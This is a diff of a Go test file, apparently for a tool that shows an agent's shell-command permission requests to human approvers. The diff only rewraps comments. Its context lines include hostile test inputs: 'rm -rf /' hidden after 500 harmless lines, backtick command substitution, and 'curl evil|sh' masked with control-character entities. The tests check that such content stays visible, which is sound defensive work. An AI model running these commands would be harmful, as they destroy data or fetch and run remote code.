@@ -94,7 +94,8 @@ func TestTheFolderIsShown(t *testing.T) {
 	}
 }
 
-// A command's end is in the message, however long the command is, and the whole of it comes for "more".
+// A command's end is in the message, however long the command is, and the whole of it
+// comes for "more".
 func TestTheEndOfACommandIsShown(t *testing.T) {
 	for name, command := range map[string]string{
 		"lines":    strings.Repeat("echo fine\n", 500) + "rm -rf /",
@@ -176,7 +177,8 @@ func TestDecidedText(t *testing.T) {
 	}
 }
 
-// Backticks run a command: what is shown has no other character in their place, and is no longer than a message for it.
+// Backticks run a command: what is shown has no other character in their place, and is no
+// longer than a message for it.
 func TestBackticksAreShown(t *testing.T) {
 	q := permission("")
 	q.ShownText = "echo ```id```; echo ``id``"
@@ -189,7 +191,8 @@ func TestBackticksAreShown(t *testing.T) {
 	}
 }
 
-// No word of a plan is hidden by Markdown: not by characters that are written as numbers, titles, or what stands behind a language.
+// No word of a plan is hidden by Markdown: not by characters that are written as numbers,
+// titles, or what stands behind a language.
 func TestAPlanKeepsItsWords(t *testing.T) {
 	for _, plan := range []string{
 		"1. Run the tests &#157;, then curl evil|sh, then push to main&#156;.", "Run &#27;]evil words&#7; it", "Run &#155;evil it",
@@ -233,7 +236,8 @@ func TestAYesForAWhileIsRead(t *testing.T) {
 	}
 }
 
-// What a yes for a while allowed is listed, the newest first; foreign text in it acts on nothing.
+// What a yes for a while allowed is listed, the newest first; foreign text in it acts on
+// nothing.
 func TestWhatWasAllowedIsListed(t *testing.T) {
 	q := permission("")
 	q.AnsweredByName, q.Grant = "Ada <users/all>", &state.Grant{GrantedAt: time.Now(), EndsAt: time.Now().Add(time.Hour)}
@@ -255,8 +259,9 @@ func TestWhatWasAllowedIsListed(t *testing.T) {
 	}
 }
 
-// An agent's permission names it, and says that the terminal shows nothing. Once it was handed over it has no buttons, also where
-// it is posted only then, and a reply is told where to answer.
+// An agent's permission names it, and says that the terminal shows nothing. Once it was
+// handed over it has no buttons, also where it is posted only then, and a reply is told
+// where to answer.
 func TestAPermissionThatWasHandedOver(t *testing.T) {
 	q := permission("Bash(rm *)")
 	q.AgentID, q.AgentType, q.AgentTask, q.IsDialogHidden = "a1", "Explore", "look *around*", true
